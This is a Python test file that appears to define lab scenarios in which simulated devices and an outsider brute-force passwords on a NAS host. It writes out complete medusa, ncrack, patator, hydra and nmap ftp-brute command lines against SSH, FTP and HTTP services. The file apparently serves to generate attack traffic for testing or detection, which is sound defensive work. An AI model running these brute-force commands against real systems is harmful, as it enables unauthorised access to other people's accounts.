"""Password guessers other than hydra, against SSH, FTP and HTTP."""

from tests.lab.scenario import Scenario
from tests.lab.training._step import Named, attack, scenario

_ALL = ("web", "dns", "ssh", "ftp")
_WORDS = "{room}/etc/guesses"


def _guess(tool: str, actor: str, command: str, seconds: float = 45) -> Scenario:
    return scenario(attack("guess", tool, actor, "nas", command, seconds), services=_ALL)


def _medusa(module: str, more: str = "") -> str:
    return f"medusa -h {{nas}} -u {{user}} -P {_WORDS} -M {module} -t 4 {more}".rstrip()


def _ncrack(service: str) -> str:
    return f"ncrack --user {{user}} -P {_WORDS} -g CL=4 {service}://{{nas}}"


_PATATOR_FTP = f"patator ftp_login host={{nas}} user={{user}} password=FILE0 0={_WORDS} -t 4"
_PATATOR_SSH = f"patator ssh_login host={{nas}} user={{user}} password=FILE0 0={_WORDS} -t 4"
SCENARIOS: dict[str, Named] = {
    "guess_medusa_ssh": (
        "medusa guesses an SSH password, four at a time.",
        _guess("medusa", "camera", _medusa("ssh")),
    ),
    "guess_medusa_ftp": (
        "medusa guesses an FTP password, four at a time.",
        _guess("medusa", "phone", _medusa("ftp")),
    ),
    "guess_medusa_http": (
        "medusa guesses a web page's password.",
        _guess("medusa", "outsider", _medusa("http", "-m DIR:/private/")),
    ),
    "guess_ncrack_ssh": (
        "ncrack guesses an SSH password.",
        _guess("ncrack", "phone", _ncrack("ssh")),
    ),
    "guess_ncrack_ftp": (
        "ncrack guesses an FTP password from outside.",
        _guess("ncrack", "outsider", _ncrack("ftp")),
    ),
    "guess_patator_ssh": (
        "patator guesses an SSH password.",
        _guess("patator", "camera", _PATATOR_SSH),
    ),
    "guess_patator_ftp": (
        "patator guesses an FTP password.",
        _guess("patator", "laptop", _PATATOR_FTP),
    ),
    "guess_hydra_ssh_slow": (
        "hydra guesses an SSH password from outside, one at a time.",
        _guess("hydra", "outsider", f"hydra -I -q -t 1 -l {{user}} -P {_WORDS} ssh://{{nas}}"),
    ),
    "guess_hydra_http": (
        "hydra guesses a web page's password.",
        _guess(
            "hydra",
            "camera",
            f"hydra -I -q -t 4 -l {{user}} -P {_WORDS} http-get://{{nas}}/private/",
        ),
    ),
    "guess_nmap_ftp": (
        "nmap's script guesses FTP passwords.",
        _guess("nmap", "camera", "nmap -n -Pn -p 21 --script ftp-brute --script-timeout 30s {nas}"),
    ),
}
